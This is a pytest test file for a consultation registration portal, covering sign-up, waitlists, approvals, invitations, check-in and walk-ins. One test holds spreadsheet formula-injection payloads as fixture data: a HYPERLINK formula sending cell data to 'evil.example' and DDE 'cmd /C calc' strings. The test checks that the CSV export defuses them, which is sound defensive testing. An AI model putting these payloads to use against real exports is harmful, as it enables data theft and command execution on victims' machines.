import csv
import io
import re

import pytest
from sqlalchemy import func, select

from consultations import operations
from consultations.models import (
    ApprovalRule,
    ConsultationStatus,
    Invitation,
    QuestionKind,
    Registration,
    RegistrationAnswer,
    RegistrationQuestion,
    RegistrationStatus,
    Role,
)
from portal.accounts.models import User
from portal.audit.models import AuditEvent
from tests.conftest import PASSWORD, csrf_token_from, find_user, sign_in, submit

DETAILS = {
    "organisation": "Mauritanian Red Crescent",
    "stakeholder_group": "red_cross",
    "country": "MR",
    "preferred_locale": "fr",
    "attendance": "in_person",
    "languages": ["fr"],
    "interpretation_language": "",
    "accessibility_needs": "Step-free access",
    "notes": "Vegetarian",
    "consent": "y",
}


def new_visitor(**changes) -> dict:
    return {**DETAILS, "name": "Delegate of the Mauritanian Red Crescent",
            "email": "delegate@example.org", "password": PASSWORD,
            "password_confirmation": PASSWORD, **changes}


@pytest.fixture
def open_consultation(make_consultation):
    def make(**overrides):
        fields = {"status": ConsultationStatus.registration_open, "capacity": 3,
                  "approval_rule": ApprovalRule.automatic}
        fields.update(overrides)
        return make_consultation(**fields)

    return make


def registration_of(session, email) -> Registration:
    user = find_user(email)
    return session.scalars(select(Registration).where(Registration.user_id == user.id)).one()


def register_as(app, email, consultation):
    """Another participant registers from their own browser."""
    browser = app.test_client()
    sign_in(browser, email)
    response = submit(browser, f"/c/{consultation.slug}/register",
                      {**DETAILS, "name": find_user(email).name, "preferred_locale": "en"})
    assert response.status_code == 302, response.get_data(as_text=True)
    return response


def test_a_visitor_registers_and_gets_an_account_in_one_form(
    client, session, open_consultation, mailbox
):
    consultation = open_consultation()
    question = RegistrationQuestion(consultation_id=consultation.id, prompt="Your expertise?",
                                    kind=QuestionKind.single_choice, required=True,
                                    options=["Search", "Support to families"])
    session.add(question)
    session.flush()

    response = submit(client, f"/c/{consultation.slug}/register",
                      new_visitor(**{f"question_{question.id}": "Search"}),
                      follow_redirects=True)

    assert "You are registered. See you there!" in response.get_data(as_text=True)
    registration = registration_of(session, "delegate@example.org")
    assert registration.status == RegistrationStatus.approved
    assert registration.role == Role.participant
    assert registration.organisation == "Mauritanian Red Crescent"
    assert registration.accessibility_needs == "Step-free access"
    assert registration.consented_at is not None
    answer = session.scalars(select(RegistrationAnswer)).one()
    assert answer.value == "Search"
    [message] = mailbox.to("delegate@example.org")
    # The account's language is French: so is the e-mail.
    assert message["Subject"] == f"{consultation.title}\u00a0: votre inscription est approuvée"
    assert client.get(f"/c/{consultation.slug}/registration").status_code == 200


def test_a_refused_registration_says_why_and_keeps_what_was_typed(
    client, session, open_consultation
):
    consultation = open_consultation()

    response = submit(client, f"/c/{consultation.slug}/register",
                      new_visitor(consent="", languages=[]))

    page = response.get_data(as_text=True)
    assert "Registration needs your consent." in page
    assert "Choose at least one language." in page
    assert 'value="Mauritanian Red Crescent"' in page
    assert find_user("delegate@example.org") is None


def test_when_full_new_registrations_join_the_waitlist_and_a_cancellation_promotes_the_first(
    app, client, session, open_consultation, make_user, mailbox
):
    consultation = open_consultation(capacity=2)
    for number in range(1, 5):
        make_user(email=f"p{number}@example.org")
        register_as(app, f"p{number}@example.org", consultation)
    statuses = [registration_of(session, f"p{n}@example.org").status for n in range(1, 5)]
    assert statuses == ["approved", "approved", "waitlisted", "waitlisted"]
    mailbox.messages.clear()

    sign_in(client, "p1@example.org")
    submit(client, f"/c/{consultation.slug}/registration/cancel", {},
           form_path=f"/c/{consultation.slug}/registration")

    session.expire_all()
    assert registration_of(session, "p1@example.org").status == RegistrationStatus.cancelled
    assert registration_of(session, "p3@example.org").status == RegistrationStatus.approved
    assert registration_of(session, "p4@example.org").status == RegistrationStatus.waitlisted
    [promotion] = mailbox.to("p3@example.org")
    assert "A place has become free" in promotion.get_body(("plain",)).get_content()


def test_the_waitlist_page_tells_the_position(app, client, open_consultation, make_user):
    consultation = open_consultation(capacity=1)
    for number in range(1, 4):
        make_user(email=f"p{number}@example.org")
        register_as(app, f"p{number}@example.org", consultation)

    sign_in(client, "p3@example.org")
    page = client.get(f"/c/{consultation.slug}/registration").get_data(as_text=True)

    assert "You are number 2 on the waitlist." in page


@pytest.fixture
def facilitator_client(app, make_user, register):
    def make(consultation):
        make_user(email="facilitator@example.org")
        register(find_user("facilitator@example.org"), consultation, Role.facilitator)
        browser = app.test_client()
        sign_in(browser, "facilitator@example.org")
        return browser

    return make


def test_facilitators_approve_in_bulk_with_a_message_within_the_places(
    app, session, open_consultation, make_user, facilitator_client, mailbox
):
    consultation = open_consultation(capacity=2, approval_rule=ApprovalRule.facilitator)
    for number in range(1, 4):
        make_user(email=f"p{number}@example.org")
        register_as(app, f"p{number}@example.org", consultation)
    ids = [registration_of(session, f"p{n}@example.org").id for n in range(1, 4)]
    assert {registration_of(session, f"p{n}@example.org").status
            for n in range(1, 4)} == {RegistrationStatus.pending}
    mailbox.messages.clear()
    facilitator = facilitator_client(consultation)

    response = submit(facilitator, f"/c/{consultation.slug}/registrations/decide",
                      {"registration": ids, "decision": "approved",
                       "message": "Welcome to Dakar."},
                      form_path=f"/c/{consultation.slug}/registrations", follow_redirects=True)

    page = response.get_data(as_text=True)
    assert "Decision recorded for 2 registrations." in page
    assert "1 could not be approved: no place is left." in page
    session.expire_all()
    assert [registration_of(session, f"p{n}@example.org").status for n in range(1, 4)] == [
        "approved", "approved", "pending"]
    body = mailbox.to("p1@example.org")[0].get_body(("plain",)).get_content()
    assert "Welcome to Dakar." in body


def test_raising_the_capacity_on_the_day_gives_the_new_places_to_the_waitlist_in_order(
    app, session, open_consultation, make_user, mailbox
):
    consultation = open_consultation(capacity=1)
    for number in range(1, 5):
        make_user(email=f"p{number}@example.org")
        register_as(app, f"p{number}@example.org", consultation)
    mailbox.messages.clear()

    chair = make_user(email="chair@example.org", is_admin=True)
    operations.update_consultation(consultation, chair, capacity=3)
    session.commit()

    session.expire_all()
    assert [registration_of(session, f"p{n}@example.org").status for n in range(1, 5)] == [
        "approved", "approved", "approved", "waitlisted"]
    assert "A place has become free" in (
        mailbox.to("p2@example.org")[0].get_body(("plain",)).get_content())
    assert mailbox.to("p4@example.org") == []


def test_declining_an_approved_participant_promotes_the_waitlist(
    app, session, open_consultation, make_user, facilitator_client
):
    consultation = open_consultation(capacity=1)
    for number in range(1, 3):
        make_user(email=f"p{number}@example.org")
        register_as(app, f"p{number}@example.org", consultation)
    facilitator = facilitator_client(consultation)

    submit(facilitator, f"/c/{consultation.slug}/registrations/decide",
           {"registration": [registration_of(session, "p1@example.org").id],
            "decision": "declined"}, form_path=f"/c/{consultation.slug}/registrations")

    session.expire_all()
    assert registration_of(session, "p1@example.org").status == RegistrationStatus.declined
    assert registration_of(session, "p2@example.org").status == RegistrationStatus.approved


def test_a_participant_cannot_decide_on_registrations(
    app, client, session, open_consultation, make_user
):
    consultation = open_consultation()
    make_user(email="p1@example.org")
    register_as(app, "p1@example.org", consultation)
    sign_in(client, "p1@example.org")

    response = submit(client, f"/c/{consultation.slug}/registrations/decide",
                      {"registration": [registration_of(session, "p1@example.org").id],
                       "decision": "approved"}, form_path="/")

    assert response.status_code == 403
    assert client.get(f"/c/{consultation.slug}/registrations").status_code == 403
    assert client.get(f"/c/{consultation.slug}/check-in").status_code == 403


INVITEES = (
    "email,name,organisation,stakeholder_group,country\n"
    "Delegate@Example.org,Delegate of Niger,Red Cross Society of Niger,red_cross,NE\n"
    "official@example.org,Official,Ministry of Foreign Affairs of Ghana,"
    "Member State / government,GH\n"
)


def test_an_invitee_list_with_errors_is_refused_row_by_row_and_nothing_is_imported(
    session, open_consultation, facilitator_client
):
    consultation = open_consultation(invitation_only=True)
    facilitator = facilitator_client(consultation)
    broken = INVITEES + "not-an-address,Someone,Org,red_cross,NE\nx@example.org,,Org,aliens,ZZ\n"

    response = submit(facilitator, f"/c/{consultation.slug}/invitations",
                      {"invitees": broken})

    page = response.get_data(as_text=True)
    assert "Nothing was imported" in page
    assert "Row 4: “not-an-address” is not an e-mail address." in page
    assert "Row 5: The name is missing." in page
    assert "Row 5: “aliens” is not a stakeholder group." in page
    assert "Row 5: “ZZ” is not an ISO 3166 country code." in page
    assert session.scalars(select(Invitation)).all() == []


def test_only_invited_addresses_register_in_an_invitation_only_consultation(
    app, client, session, open_consultation, facilitator_client, mailbox
):
    consultation = open_consultation(invitation_only=True)
    facilitator = facilitator_client(consultation)
    submit(facilitator, f"/c/{consultation.slug}/invitations", {"invitees": INVITEES})
    sent = submit(facilitator, f"/c/{consultation.slug}/invitations/send", {},
                  form_path=f"/c/{consultation.slug}/invitations", follow_redirects=True)
    assert "2 invitations sent." in sent.get_data(as_text=True)
    [invitation] = mailbox.to("delegate@example.org")
    link = invitation.get_payload(decode=True).decode()
    assert f"/c/{consultation.slug}/register?email=delegate@example.org" in link

    stranger = submit(app.test_client(), f"/c/{consultation.slug}/register",
                      new_visitor(email="stranger@example.org"))
    assert "is not on the list of invitees" in stranger.get_data(as_text=True)
    assert find_user("stranger@example.org") is None

    form = client.get(f"/c/{consultation.slug}/register?email=delegate%40example.org")
    assert 'value="Red Cross Society of Niger"' in form.get_data(as_text=True)
    submit(client, f"/c/{consultation.slug}/register", new_visitor(email="delegate@example.org"))
    assert registration_of(session, "delegate@example.org").status == RegistrationStatus.approved


def test_registration_is_refused_when_not_open(client, make_consultation):
    consultation = make_consultation(status=ConsultationStatus.live)

    response = client.get(f"/c/{consultation.slug}/register")

    assert response.status_code == 403
    assert "it closed when the consultation began" in response.get_data(as_text=True)


def test_a_live_consultation_kept_open_takes_late_registrations(
    client, session, make_consultation
):
    from datetime import UTC, datetime
    consultation = make_consultation(
        status=ConsultationStatus.live, registration_open_while_live=True, capacity=None,
        approval_rule=ApprovalRule.automatic,
        registration_closes_at=datetime(2020, 1, 1, tzinfo=UTC))

    page = client.get(f"/c/{consultation.slug}").get_data(as_text=True)
    assert f'href="/c/{consultation.slug}/register"' in page
    response = submit(client, f"/c/{consultation.slug}/register", new_visitor(),
                      follow_redirects=True)

    assert "You are registered. See you there!" in response.get_data(as_text=True)
    assert registration_of(session, "delegate@example.org").status == RegistrationStatus.approved


def test_a_finished_consultation_says_why_registration_is_closed(client, make_consultation):
    consultation = make_consultation(status=ConsultationStatus.closed,
                                     registration_open_while_live=True)

    response = client.get(f"/c/{consultation.slug}/register")

    assert response.status_code == 403
    assert "the consultation is over" in response.get_data(as_text=True)


#: What spreadsheets may run as a formula at the start of a cell.
FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


def read_csv(response) -> list[dict]:
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_the_export_lists_registrations_and_defuses_spreadsheet_formulas(
    app, session, open_consultation, make_user, register, facilitator_client, start
):
    consultation = open_consultation()
    question = RegistrationQuestion(consultation_id=consultation.id, prompt=f"{start}1+2",
                                    kind=QuestionKind.short_text)
    session.add(question)
    registration = register(make_user(email="p1@example.org"), consultation)
    # Set past the forms, which strip leading spaces: the export trusts no stored text.
    registration.user.name = f'{start}HYPERLINK("http://evil.example/?x="&A1,"x")'
    registration.organisation = f"{start}cmd|' /C calc'!A0"
    registration.notes = f"{start}SUM(1+1)*cmd|' /C calc'!A0"
    session.add(RegistrationAnswer(registration=registration, question=question,
                                   value=f"{start}2+5"))
    register(make_user(email="p2@example.org", name="Aïssatou Ndiaye — الهلال الأحمر",
                       organisation="Mauritanian Red Crescent"), consultation)
    facilitator = facilitator_client(consultation)

    rows = read_csv(facilitator.get(f"/c/{consultation.slug}/registrations.csv"))

    by_email = {row["email"]: row for row in rows}
    assert set(by_email) >= {"p1@example.org", "p2@example.org"}
    defused = by_email["p1@example.org"]
    assert defused["name"] == f'\'{start}HYPERLINK("http://evil.example/?x="&A1,"x")'
    assert defused["organisation"] == f"'{start}cmd|' /C calc'!A0"
    assert defused["notes"] == f"'{start}SUM(1+1)*cmd|' /C calc'!A0"
    assert defused[f"'{start}1+2"] == f"'{start}2+5"
    assert by_email["p2@example.org"]["name"] == "Aïssatou Ndiaye — الهلال الأحمر"
    assert by_email["p2@example.org"]["organisation"] == "Mauritanian Red Crescent"


def test_the_list_filters_and_counts_by_stakeholder_group(
    app, session, open_consultation, make_user, facilitator_client
):
    consultation = open_consultation(capacity=None)
    make_user(email="p1@example.org")
    register_as(app, "p1@example.org", consultation)
    facilitator = facilitator_client(consultation)

    red_cross = facilitator.get(f"/c/{consultation.slug}/registrations?group=red_cross")
    academia = facilitator.get(f"/c/{consultation.slug}/registrations?group=academia")

    assert "p1@example.org" in red_cross.get_data(as_text=True)
    # Mauritania is in Western Africa in the UN geoscheme.
    assert "<th scope=\"row\">Western Africa</th><td>1</td>" in red_cross.get_data(as_text=True)
    assert "p1@example.org" not in academia.get_data(as_text=True)
    assert "No registration matches." in academia.get_data(as_text=True)


def test_check_in_finds_people_by_organisation_and_marks_them_present(
    app, session, open_consultation, make_user, facilitator_client
):
    consultation = open_consultation()
    make_user(email="p1@example.org", name="Delegate of Mauritania")
    register_as(app, "p1@example.org", consultation)
    facilitator = facilitator_client(consultation)
    registration = registration_of(session, "p1@example.org")

    found = facilitator.get(f"/c/{consultation.slug}/check-in?q=mauritanian")
    assert "Delegate of Mauritania" in found.get_data(as_text=True)
    done = submit(facilitator, f"/c/{consultation.slug}/check-in/{registration.id}",
                  {"present": "1"}, form_path=f"/c/{consultation.slug}/check-in",
                  follow_redirects=True)

    assert "Delegate of Mauritania is checked in." in done.get_data(as_text=True)
    session.refresh(registration)
    assert registration.checked_in_at is not None


def test_a_question_sent_without_its_kind_is_refused_with_a_message(
        client, make_user, make_consultation, register, session):
    consultation = make_consultation()
    facilitator = make_user()
    register(facilitator, consultation, Role.facilitator)
    sign_in(client, facilitator.email)

    response = submit(client, f"/c/{consultation.slug}/questions",
                      {"prompt": "Which session will you attend?"})

    assert response.status_code == 200
    assert "Not a valid choice" in response.get_data(as_text=True)
    assert session.scalars(select(RegistrationQuestion)).all() == []


def test_a_decision_on_registration_numbers_beyond_any_row_changes_nothing(
        client, make_user, make_consultation, register, session):
    consultation = make_consultation()
    facilitator = make_user()
    register(facilitator, consultation, Role.facilitator)
    sign_in(client, facilitator.email)

    response = submit(client, f"/c/{consultation.slug}/registrations/decide",
                      {"registration": ["99999999999999999999999", "-1"],
                       "decision": "approved"},
                      form_path=f"/c/{consultation.slug}/registrations", follow_redirects=True)

    assert response.status_code == 200
    assert "Tick at least one registration" in response.get_data(as_text=True)


# Walk-ins at the check-in desk ----------------------------------------------------------------

WALK_IN = {"name": "Aïssatou Diallo", "organisation": "Caritas Dakar",
           "stakeholder_group": "civil_society", "country": "SN",
           "email": "Walk.In@example.org", "preferred_locale": "fr", "consent": "y"}
SIGN_IN_LINK = re.compile(r"http://portal\.test(/account/sign-in/link/[^\s]+)")


def walk_in(facilitator, consultation, **changes):
    return submit(facilitator, f"/c/{consultation.slug}/check-in/walk-in",
                  {**WALK_IN, **changes}, form_path=f"/c/{consultation.slug}/check-in",
                  follow_redirects=True)


def test_a_walk_in_is_registered_checked_in_and_signs_in_by_the_e_mailed_link(
    app, session, open_consultation, facilitator_client, mailbox
):
    consultation = open_consultation(status=ConsultationStatus.live,
                                     approval_rule=ApprovalRule.facilitator)
    facilitator = facilitator_client(consultation)

    done = walk_in(facilitator, consultation)

    assert "Aïssatou Diallo is registered and checked in; a sign-in link is on its way to " \
        "walk.in@example.org." in done.get_data(as_text=True)
    registration = registration_of(session, "walk.in@example.org")
    assert registration.status == RegistrationStatus.approved
    assert registration.checked_in_at is not None
    assert registration.organisation == "Caritas Dakar"
    (message,) = mailbox.to("walk.in@example.org")
    assert message["Subject"] == "Votre lien pour vous connecter à Red Talks"
    assert consultation.title in message.get_content()
    newcomer = app.test_client()
    path = SIGN_IN_LINK.search(message.get_content()).group(1)
    assert submit(newcomer, path, {}).status_code == 302
    assert "Aïssatou Diallo" in newcomer.get("/account/profile").get_data(as_text=True)
    assert submit(newcomer, path, {}, form_path="/account/sign-in/link").status_code == 302
    events = session.scalars(select(AuditEvent).where(
        AuditEvent.action == "registration.walk_in")).all()
    assert [event.details["account_created"] for event in events] == [True]


def test_a_walk_in_with_an_account_is_registered_with_it_not_a_second_one(
    app, session, open_consultation, facilitator_client, make_user, mailbox
):
    consultation = open_consultation(status=ConsultationStatus.live)
    make_user(email="walk.in@example.org", name="Aïssatou Diallo")
    facilitator = facilitator_client(consultation)

    done = walk_in(facilitator, consultation, name="A. Diallo")

    assert "walk.in@example.org has an account already: Aïssatou Diallo is registered with " \
        "it and checked in" in done.get_data(as_text=True)
    assert session.scalar(select(func.count()).select_from(User).where(
        User.email == "walk.in@example.org")) == 1
    registration = registration_of(session, "walk.in@example.org")
    assert registration.status == RegistrationStatus.approved
    assert registration.checked_in_at is not None
    assert SIGN_IN_LINK.search(mailbox.to("walk.in@example.org")[0].get_content())


def test_a_walk_in_form_with_mistakes_says_what_to_correct_and_keeps_what_was_typed(
    session, open_consultation, facilitator_client
):
    consultation = open_consultation(status=ConsultationStatus.live, capacity=None)
    facilitator = facilitator_client(consultation)

    refused = walk_in(facilitator, consultation, email="not an address", consent="")

    page = refused.get_data(as_text=True)
    assert refused.status_code == 400
    assert "Enter an e-mail address like name@example.org." in page
    assert "Registration needs the person's consent." in page
    assert 'value="Caritas Dakar"' in page
    assert find_user("walk.in@example.org") is None


def test_a_walk_in_is_refused_when_no_place_is_left(
    app, session, open_consultation, facilitator_client, make_user
):
    consultation = open_consultation(status=ConsultationStatus.live, capacity=1)
    make_user(email="p1@example.org")
    consultation.status = ConsultationStatus.registration_open
    register_as(app, "p1@example.org", consultation)
    consultation.status = ConsultationStatus.live
    facilitator = facilitator_client(consultation)

    refused = walk_in(facilitator, consultation)

    assert "No place is left: raise the number of places" in refused.get_data(as_text=True)
    assert find_user("walk.in@example.org") is None


def test_only_those_who_run_check_in_register_walk_ins(
    app, session, open_consultation, make_user, register
):
    consultation = open_consultation(status=ConsultationStatus.live)
    participant = make_user(email="p1@example.org")
    register(participant, consultation)
    client = app.test_client()
    sign_in(client, "p1@example.org")
    token = csrf_token_from(client.get(f"/c/{consultation.slug}").get_data(as_text=True))

    response = client.post(f"/c/{consultation.slug}/check-in/walk-in",
                           data={**WALK_IN, "csrf_token": token})

    assert response.status_code == 403
    assert find_user("walk.in@example.org") is None
